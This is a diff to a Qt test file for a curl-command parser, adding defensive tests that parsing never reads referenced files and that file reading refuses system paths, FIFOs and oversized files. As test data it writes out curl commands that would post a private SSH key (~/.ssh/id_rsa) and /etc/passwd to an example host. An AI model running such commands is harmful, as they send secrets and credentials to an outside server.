@@ -5,6 +5,10 @@
 #include <QProcess>
 #include <QtTest>
 
+#include <sys/stat.h>
+
+Q_DECLARE_METATYPE(CurlCommand::FileReference)
+
 namespace {
 
 QString s(const char *utf8)
@@ -57,6 +61,7 @@ struct Row
     QString command;
     QStringList expected;
     QString warning; ///< a warning that must be given; empty: no warning at all
+    bool readFiles = false; ///< the person agreed to read the command's files (readFiles())
 };
 
 QList<Row> rows()
@@ -119,7 +124,7 @@ QList<Row> rows()
             s("curl --data-urlencode 'doc@") + bodyFile + s("' https://x.example/s"),
             {s("method POST"), s("url https://x.example/s"), s("body urlencoded"),
                 s("field doc={\n  \"from\": \"file\"\n}\n")},
-            {}},
+            {}, true},
         {"-G moves the data to the query",
             s("curl -G -d 'q=scenarist' -d 'limit=5' https://api.example.com/search"),
             {s("method GET"), s("url https://api.example.com/search"), s("query q=scenarist"),
@@ -361,17 +366,18 @@ QList<Row> rows()
                 + s(" https://x.example/"),
             {s("method POST"), s("url https://x.example/"), s("body raw"),
                 s("type application/json"), s("content {  \"from\": \"file\"}")},
-            {}},
+            {}, true},
         {"--data-binary @file keeps newlines",
             s("curl -H 'Content-Type: application/json' --data-binary @") + bodyFile
                 + s(" https://x.example/"),
             {s("method POST"), s("url https://x.example/"), s("body raw"),
                 s("type application/json"), s("content {\n  \"from\": \"file\"\n}\n")},
-            {}},
+            {}, true},
         {"-d @missing file", s("curl -d @/nonexistent/body.json https://x.example/"),
             {s("method POST"), s("url https://x.example/"), s("body raw"),
-                s("type application/x-www-form-urlencoded"), s("content ")},
-            s("could not be opened")},
+                s("type application/x-www-form-urlencoded"),
+                s("content [the file /nonexistent/body.json, not read]")},
+            s("could not find the file \"/nonexistent/body.json\""), true},
         {"--cacert", s("curl --cacert /etc/ssl/my-ca.pem https://x.example/"),
             {s("method GET"), s("url https://x.example/"), s("body none"),
                 s("ca /etc/ssl/my-ca.pem")},
@@ -405,6 +411,10 @@ private slots:
     void sentRequestRoundTrips_data();
     void sentRequestRoundTrips();
     void masksSecretsUnlessRevealed();
+    void parseNeverReadsFiles_data();
+    void parseNeverReadsFiles();
+    void readFilesRefuses_data();
+    void readFilesRefuses();
     void pipesBodiesWithNulBytes();
 };
 
@@ -413,8 +423,9 @@ void TestCurl::parsesCommands_data()
     QTest::addColumn<QString>("command");
     QTest::addColumn<QStringList>("expected");
     QTest::addColumn<QString>("warning");
+    QTest::addColumn<bool>("readFiles");
     for (const Row &row : rows())
-        QTest::newRow(row.name) << row.command << row.expected << row.warning;
+        QTest::newRow(row.name) << row.command << row.expected << row.warning << row.readFiles;
 }
 
 void TestCurl::parsesCommands()
@@ -422,8 +433,16 @@ void TestCurl::parsesCommands()
     QFETCH(QString, command);
     QFETCH(QStringList, expected);
     QFETCH(QString, warning);
-    const CurlCommand::ParseResult result = CurlCommand::parse(command);
+    QFETCH(bool, readFiles);
+    CurlCommand::ParseResult result = CurlCommand::parse(command);
     QVERIFY2(result.ok(), qPrintable(result.error));
+    QCOMPARE(result.inlinedFiles().isEmpty(), !readFiles);
+    if (readFiles) {
+        FileAccessPolicy policy;
+        policy.anywhere = true;
+        CurlCommand::readFiles(result, policy);
+        QVERIFY2(result.ok(), qPrintable(result.error));
+    }
     QCOMPARE(describe(result.spec), expected);
     if (warning.isEmpty()) {
         QVERIFY2(result.warnings.isEmpty(), qPrintable(result.warnings.join(QLatin1Char('\n'))));
@@ -565,6 +584,120 @@ void TestCurl::sentRequestRoundTrips()
         QCOMPARE(back.spec.rawContent, QString::fromUtf8(body));
     } else {
         QCOMPARE(int(back.spec.bodyType), int(BodyType::None));
+    }
+}
+
+void TestCurl::parseNeverReadsFiles_data()
+{
+    QTest::addColumn<QString>("command");
+    QTest::addColumn<QStringList>("expected");
+    QTest::addColumn<QList<CurlCommand::FileReference>>("files");
+    using Ref = CurlCommand::FileReference;
+
+    QTest::newRow("-d @file") << s(
+        "curl -H 'Content-Type: application/json' -d @/home/me/.ssh/id_rsa https://x.example/")
+                              << QStringList {s("method POST"), s("url https://x.example/"),
+                                     s("body raw"), s("type application/json"),
+                                     s("content [the file /home/me/.ssh/id_rsa, not read]")}
+                              << QList<Ref> {{s("/home/me/.ssh/id_rsa"), s("-d"), true}};
+    QTest::newRow("--data-binary @/dev/zero never blocks nor fills the memory")
+        << s("curl --data-binary @/dev/zero https://x.example/")
+        << QStringList {s("method POST"), s("url https://x.example/"), s("body raw"),
+               s("type application/x-www-form-urlencoded"),
+               s("content [the file /dev/zero, not read]")}
+        << QList<Ref> {{s("/dev/zero"), s("--data-binary"), true}};
+    QTest::newRow("--data-urlencode name@file")
+        << s("curl --data-urlencode 'doc@/etc/passwd' https://x.example/s")
+        << QStringList {s("method POST"), s("url https://x.example/s"), s("body urlencoded"),
+               s("field doc=[the file /etc/passwd, not read]")}
+        << QList<Ref> {{s("/etc/passwd"), s("--data-urlencode"), true}};
+    QTest::newRow("--json @file") << s("curl --json @body.json https://x.example/")
+                                  << QStringList {s("method POST"), s("url https://x.example/"),
+                                         s("header Accept: application/json"), s("body raw"),
+                                         s("type application/json"),
+                                         s("content [the file body.json, not read]")}
+                                  << QList<Ref> {{s("body.json"), s("--json"), true}};
+    QTest::newRow("-F name=<file and name=@file")
+        << s("curl -F 'text=</etc/hostname' -F 'up=@/etc/passwd' https://x.example/")
+        << QStringList {s("method POST"), s("url https://x.example/"), s("body multipart"),
+               s("field text=[the file /etc/hostname, not read]"),
+               s("file up=@/etc/passwd;filename=;type=")}
+        << QList<Ref> {{s("/etc/hostname"), s("-F"), true}, {s("/etc/passwd"), s("-F"), false}};
+    QTest::newRow("the same file twice is listed once")
+        << s("curl -d @a.txt -d @a.txt https://x.example/")
+        << QStringList {s("method POST"), s("url https://x.example/"), s("body raw"),
+               s("type application/x-www-form-urlencoded"),
+               s("content [the file a.txt, not read]&[the file a.txt, not read]")}
+        << QList<Ref> {{s("a.txt"), s("-d"), true}};
+}
+
+void TestCurl::parseNeverReadsFiles()
+{
+    QFETCH(QString, command);
+    QFETCH(QStringList, expected);
+    using Ref = CurlCommand::FileReference;
+    QFETCH(QList<Ref>, files);
+    QElapsedTimer clock;
+    clock.start();
+    const CurlCommand::ParseResult result = CurlCommand::parse(command);
+    QVERIFY(clock.elapsed() < 2000);
+    QVERIFY2(result.ok(), qPrintable(result.error));
+    QCOMPARE(describe(result.spec), expected);
+    QCOMPARE(result.files, files);
+}
+
+void TestCurl::readFilesRefuses_data()
+{
+    QTest::addColumn<QString>("path"); // $DIR: a temporary folder
+    QTest::addColumn<qint64>("maxBytes");
+    QTest::addColumn<QString>("refusal");
+    QTest::newRow("/dev/zero") << s("/dev/zero") << qint64(0)
+                               << s("Scenarist did not read \"/dev/zero\": it is in /dev");
+    QTest::newRow("/proc/self/environ")
+        << s("/proc/self/environ") << qint64(0) << s("a system folder");
+    QTest::newRow("a FIFO") << s("$DIR/pipe") << qint64(0) << s("it is not a regular file");
+    QTest::newRow("a folder") << s("$DIR") << qint64(0) << s("it is a folder");
+    QTest::newRow("too large") << s("$DIR/body.txt") << qint64(4) << s("it is larger than 4 bytes");
+    QTest::newRow("missing") << s("$DIR/none.txt") << qint64(0) << s("could not find the file");
+}
+
+void TestCurl::readFilesRefuses()
+{
+    QFETCH(QString, path);
+    QFETCH(qint64, maxBytes);
+    QFETCH(QString, refusal);
+    QTemporaryDir dir;
+    QVERIFY(dir.isValid());
+    QCOMPARE(::mkfifo(QFile::encodeName(dir.filePath(s("pipe"))).constData(), 0600), 0);
+    QFile body(dir.filePath(s("body.txt")));
+    QVERIFY(body.open(QIODevice::WriteOnly));
+    body.write("a=1&b=2");
+    body.close();
+    path.replace(s("$DIR"), dir.path());
+
+    // One file refused, the other read: the command is read again with what was allowed.
+    CurlCommand::ParseResult result = CurlCommand::parse(s("curl -d @") + path + s(" -d @")
+        + dir.filePath(s("body.txt")) + s(" https://x.example/"));
+    QVERIFY(result.ok());
+    FileAccessPolicy policy;
+    policy.anywhere = true;
+    if (maxBytes > 0)
+        policy.maxBytes = maxBytes;
+    QElapsedTimer clock;
+    clock.start();
+    const QStringList refusals = CurlCommand::readFiles(result, policy);
+    QVERIFY(clock.elapsed() < 2000);
+    QVERIFY2(!refusals.isEmpty() && refusals.first().contains(refusal),
+        qPrintable(refusals.join(QLatin1Char('\n'))));
+    QVERIFY(result.warnings.contains(refusals.first()));
+    const QString placeholder = CurlCommand::placeholder(path);
+    if (maxBytes > 0) {
+        QCOMPARE(refusals.size(), 1); // both -d name the too-large file: refused once
+        QCOMPARE(
+            describe(result.spec).constLast(), s("content ") + placeholder + s("&") + placeholder);
+    } else {
+        QCOMPARE(refusals.size(), 1);
+        QCOMPARE(describe(result.spec).constLast(), s("content ") + placeholder + s("&a=1&b=2"));
     }
 }
 
